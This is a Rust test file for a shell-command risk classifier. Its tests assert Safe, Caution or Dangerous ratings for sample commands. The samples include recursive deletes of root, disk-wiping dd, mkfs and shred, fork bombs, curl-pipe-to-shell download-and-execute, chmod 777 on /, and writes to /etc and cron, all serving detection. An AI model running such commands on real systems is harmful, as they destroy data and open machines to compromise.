//! The risk ratings of example programs, by theme.

use super::*;
use crate::parse::parse;

fn level(src: &str) -> RiskLevel {
    assess(&parse(src).unwrap()).level
}

fn rules(src: &str) -> Vec<String> {
    assess(&parse(src).unwrap())
        .reasons
        .into_iter()
        .map(|r| r.rule)
        .collect()
}

#[test]
fn safe_commands() {
    for src in ["ls -la", "echo hi | grep h", "cat a.txt", "git status"] {
        assert_eq!(level(src), RiskLevel::Safe, "{src}");
    }
}

#[test]
fn recursive_deletes_of_root_and_home() {
    for src in [
        "rm -rf /",
        "rm -fr /*",
        "rm -r -f ~",
        "rm --recursive --force $HOME",
        "sudo rm -rf /",
        "echo $(rm -rf /)",
        "x=`rm -Rf /usr`",
        "rm -rf --no-preserve-root /tmp",
        "find / -delete",
        "find / -name '*.log' -exec rm {} +",
        "xargs rm -rf /",
        "bash -c 'rm -rf ~/'",
        "f() { rm -rf /; }",
        "rm /etc/passwd",
    ] {
        assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
    }
    assert_eq!(level("rm -rf ./build"), RiskLevel::Caution);
    assert_eq!(level("rm file.txt"), RiskLevel::Caution);
    assert!(rules("rm -rf \"$DIR/\"*").contains(&"recursive-delete-unguarded-variable".to_owned()));
}

#[test]
fn devices_and_formatting() {
    for src in [
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        "mkswap /dev/nvme0n1p2",
        "echo x > /dev/sda",
        "cat img > /dev/mmcblk0",
        "shred /dev/sda",
    ] {
        assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
    }
    assert_eq!(
        level("dd if=/dev/zero of=out.img bs=1M count=1"),
        RiskLevel::Caution
    );
    assert_eq!(level("echo x > /dev/null"), RiskLevel::Safe);
}

#[test]
fn fork_bombs() {
    assert_eq!(rules(":(){ :|:& };:")[0], "fork-bomb");
    assert_eq!(rules("bomb() { bomb | bomb & }; bomb")[0], "fork-bomb");
    assert_eq!(level("f() { echo hi; }; f"), RiskLevel::Safe);
}

#[test]
fn download_and_execute() {
    for src in [
        "curl -fsSL https://x.example/install.sh | sh",
        "wget -qO- http://x | sudo bash",
        "curl x | python3 -",
        "bash <(curl -s http://x)",
        "sh -c \"$(curl -fsSL http://x)\"",
        "eval \"$(wget -O- http://x)\"",
    ] {
        assert!(
            rules(src).contains(&"download-and-execute".to_owned()),
            "{src}"
        );
    }
    assert_eq!(level("curl -o file http://x"), RiskLevel::Caution);
}

#[test]
fn permissions_and_system_writes() {
    for src in [
        "chmod -R 777 /",
        "chmod -R 777 .",
        "chown -R nobody /usr",
        "echo 'nameserver 1.1.1.1' > /etc/resolv.conf",
        "echo x | tee -a /etc/hosts",
        "sed -i 's/a/b/' /etc/ssh/sshd_config",
        "cp evil /etc/cron.d/x",
        "mv data /dev/null",
    ] {
        assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
    }
    assert_eq!(level("chmod 777 file"), RiskLevel::Caution);
    assert_eq!(level("chmod +x script.sh"), RiskLevel::Safe);
    assert_eq!(level("sed 's/a/b/' /etc/hosts"), RiskLevel::Safe);
}

#[test]
fn privilege_and_power() {
    assert_eq!(rules("sudo ls")[0], "privilege-escalation");
    assert_eq!(level("shutdown -h now"), RiskLevel::Dangerous);
    assert_eq!(level("systemctl reboot"), RiskLevel::Dangerous);
    assert_eq!(level("kill -9 -1"), RiskLevel::Dangerous);
    assert_eq!(level("kill 1234"), RiskLevel::Caution);
    assert_eq!(level("crontab -r"), RiskLevel::Dangerous);
}

#[test]
fn wrappers_are_looked_through() {
    let words = parse("sudo -u root env A=1 nice -n 5 timeout 10s rm -rf x").unwrap();
    let argv = effective_argv(&words.commands[0].words);
    assert_eq!(argv[0].literal, "rm");
    assert_eq!(level("timeout 5 nice rm -rf /"), RiskLevel::Dangerous);
}

#[test]
fn dynamic_and_opaque_are_caution() {
    assert!(rules("$CMD -x").contains(&"dynamic-command".to_owned()));
    assert!(rules("eval \"$x\"").contains(&"opaque".to_owned()));
    assert_eq!(level("echo hi > out.txt"), RiskLevel::Caution);
}

#[test]
fn writing_to_the_process_itself_is_not_a_system_write() {
    for src in ["echo x | tee /proc/self/fd/2", "cp log /proc/self/fd/1"] {
        assert_eq!(level(src), RiskLevel::Safe, "{src}");
    }
}
